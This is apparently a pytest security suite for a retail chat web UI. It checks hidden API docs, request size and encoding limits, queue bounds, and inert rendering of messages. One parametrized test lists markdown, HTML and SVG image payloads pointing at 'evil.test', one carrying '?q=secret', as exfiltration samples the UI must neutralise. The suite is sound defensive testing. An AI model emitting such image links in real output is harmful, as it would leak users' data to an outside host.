"""The public UI against hostile use, on real loopback ports: what its port shows (no API
docs, no metrics), bodies it refuses before Gradio parses them, a bounded queue, and limits
the chat keeps on the server side."""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from myretail_common.ports import free_port
from myretail_testkit.processes import Supervised, http_ok
from myretail_testkit.servers import LiveServer
from myretail_testkit.ui_backends import BackendState, rag_app
from myretail_ui.app import create_app
from myretail_ui.clients import SHOPPING, ShoppingClient, make_http_client
from myretail_ui.settings import UISettings
from myretail_ui.ui import ERROR_PREFIX, ChatHandlers

pytestmark = [
    # Gradio's queue uses pandas options that pandas 3 deprecates (not our code).
    pytest.mark.filterwarnings("ignore:.*no_silent_downcasting"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]

NOT_PUBLIC = ["/docs", "/redoc", "/openapi.json", "/gradio_api/openapi.json", "/metrics"]


@pytest.fixture(scope="module")
def ui_url() -> Iterator[str]:
    settings = UISettings(
        rag_api_endpoint="http://127.0.0.1:9", inference_api_endpoint="http://127.0.0.1:9"
    )
    with LiveServer(create_app(settings)) as server:
        yield server.url


@pytest.mark.parametrize("path", NOT_PUBLIC)
def test_the_public_port_shows_no_api_docs_and_no_metrics(ui_url: str, path: str) -> None:
    assert httpx.get(ui_url + path).status_code == 404


def test_the_public_port_still_serves_the_chat_and_the_probes(ui_url: str) -> None:
    for path in ("/", "/config", "/healthz", "/readyz"):
        assert httpx.get(ui_url + path).status_code == 200, path


def test_the_console_script_serves_metrics_on_an_internal_port_only(tmp_path: Path) -> None:
    port, metrics_port = free_port(), free_port()
    environment = {
        **os.environ,
        "GRADIO_ANALYTICS_ENABLED": "False",
        "PORT": str(port),
        "METRICS_PORT": str(metrics_port),
        "HOST": "127.0.0.1",
    }
    ui = Supervised(
        [sys.executable, "-m", "myretail_ui"],
        name="myretail-ui",
        log_path=tmp_path / "ui.log",
        env=environment,
        ports={"PORT": port, "METRICS_PORT": metrics_port},
    )
    ui.start_ready(http_ok(f"http://127.0.0.1:{port}/healthz"), timeout=120)
    try:
        for path in NOT_PUBLIC:
            assert httpx.get(f"http://127.0.0.1:{port}{path}").status_code == 404, path
        metrics = httpx.get(f"http://127.0.0.1:{metrics_port}/metrics")
    finally:
        ui.stop()
    assert metrics.status_code == 200
    assert 'http_requests_total{method="GET",route="/healthz",status="200"}' in metrics.text


def test_gradio_requests_are_capped_and_checked_before_gradio_parses_them(ui_url: str) -> None:
    join = f"{ui_url}/gradio_api/queue/join"
    surrogate = httpx.post(
        join,
        content=b'{"data": ["\\ud800"], "fn_index": 1, "session_hash": "s"}',
        headers={"content-type": "application/json"},
    )
    assert surrogate.status_code == 400
    assert surrogate.json()["error"]["type"] == "invalid_json"
    huge = httpx.post(
        join, content=b"x" * (2 * 1024 * 1024), headers={"content-type": "application/json"}
    )
    assert huge.status_code == 413
    assert huge.json()["error"]["type"] == "payload_too_large"


def _join_chat(ui_url: str, config: dict[str, Any], session: str) -> httpx.Response:
    """Put a question in Gradio's queue, as the page does."""
    chat = next(d for d in config["dependencies"] if d.get("api_name") == "chat")
    body = {
        "data": [f"walking shoes ({session})", [], SHOPPING, None],
        "fn_index": chat["id"],
        "trigger_id": chat["targets"][0][0],
        "session_hash": session,
        "event_data": None,
    }
    return httpx.post(f"{ui_url}/gradio_api/queue/join", json=body)


def test_the_queue_is_bounded() -> None:
    slow = BackendState(delay_seconds=10)
    with LiveServer(rag_app(slow)) as rag:
        settings = UISettings(
            rag_api_endpoint=rag.url,
            inference_api_endpoint="http://127.0.0.1:9",
            max_concurrent_chats=1,
            max_queued_chats=1,
        )
        with LiveServer(create_app(settings)) as ui:
            config = httpx.get(f"{ui.url}/config").json()
            answers = [_join_chat(ui.url, config, f"s{n}") for n in range(3)]
    assert [answer.status_code for answer in answers[:2]] == [200, 200]
    assert answers[2].status_code == 503
    assert "Queue is full" in answers[2].text


def test_the_question_box_is_bounded_in_the_page(ui_url: str) -> None:
    config = httpx.get(f"{ui_url}/config").json()
    prompt = next(c for c in config["components"] if c["props"].get("elem_id") == "prompt")
    assert prompt["props"]["max_length"] == 2000


def respond(handlers: ChatHandlers, message: str, history: list[Any]) -> list[Any]:
    async def collect() -> list[Any]:
        updates = [u async for u in handlers.respond(message, history, SHOPPING, "s-1")]
        for backend in handlers.assistants.values():
            await backend.aclose()
        return updates

    return asyncio.run(collect())


def test_a_question_over_the_limit_never_reaches_the_backend() -> None:
    state = BackendState()
    with LiveServer(rag_app(state)) as rag:
        handlers = ChatHandlers(
            {SHOPPING: ShoppingClient(rag.url, make_http_client(5, 1))}, max_question_chars=50
        )
        (update,) = respond(handlers, "shoes " * 20, [])
    textbox, chat, _ = update
    assert state.requests == []
    assert len(textbox) == 50  # kept (cut) for editing
    assert chat[-1]["content"].startswith(ERROR_PREFIX + "That question is 119 characters long")


def test_the_chat_the_browser_sends_back_is_cut_to_its_last_messages() -> None:
    state = BackendState()
    history = [{"role": "user", "content": f"old {n}"} for n in range(5000)]
    with LiveServer(rag_app(state)) as rag:
        handlers = ChatHandlers(
            {SHOPPING: ShoppingClient(rag.url, make_http_client(5, 1))}, max_chat_messages=20
        )
        *_, (_, chat, _) = respond(handlers, "walking shoes", history)
    assert len(chat) <= 20
    assert chat[0]["content"] == "old 4983"


def test_warnings_from_the_rag_api_show_under_the_answer() -> None:
    warning = "The chat history is unavailable right now: follow-up questions will not see it."
    state = BackendState(warnings=[warning])
    with LiveServer(rag_app(state)) as rag:
        handlers = ChatHandlers({SHOPPING: ShoppingClient(rag.url, make_http_client(5, 1))})
        *_, (_, chat, _) = respond(handlers, "walking shoes", [])
    answer = next(m for m in chat if m["role"] == "assistant" and "walking shoes" in m["content"])
    assert answer["content"].endswith(f"_Note: {warning}_")


@pytest.mark.parametrize(
    ("hostile", "inert"),
    [
        ("![chart](http://evil.test/?q=secret)", "[chart](http://evil.test/?q=secret)"),
        ("![x][ref]\n\n[ref]: http://evil.test/a.png", "[x][ref]\n\n[ref]: http://evil.test/a.png"),
        ('<img src="http://evil.test/p.png">', '&lt;img src="http://evil.test/p.png">'),
        (
            "<svg><image href='http://evil.test/s'/></svg>",
            "&lt;svg>&lt;image href='http://evil.test/s'/>&lt;/svg>",
        ),
        ("shoes under <$50 | 4 < 5", "shoes under <$50 | 4 < 5"),
    ],
)
def test_every_message_is_rendered_inert(hostile: str, inert: str) -> None:
    state = BackendState(answer=hostile)
    with LiveServer(rag_app(state)) as rag:
        handlers = ChatHandlers({SHOPPING: ShoppingClient(rag.url, make_http_client(5, 1))})
        history = [{"role": "assistant", "content": hostile}]  # as the browser sends it back
        *_, (_, chat, _) = respond(handlers, hostile, history)
    contents = [m["content"] for m in chat if m.get("metadata") is None]
    assert contents == [inert, inert, inert]  # the old message, the question, the answer


def test_a_metrics_port_in_use_is_a_clear_startup_error() -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        busy = taken.getsockname()[1]
        result = subprocess.run(
            [sys.executable, "-m", "myretail_ui"],
            capture_output=True,
            text=True,
            timeout=120,
            env={
                **os.environ,
                "GRADIO_ANALYTICS_ENABLED": "False",
                "PORT": str(free_port()),
                "METRICS_PORT": str(busy),
            },
        )
    assert result.returncode == 1
    assert f"port {busy} is already in use" in result.stderr
    assert "METRICS_PORT" in result.stderr
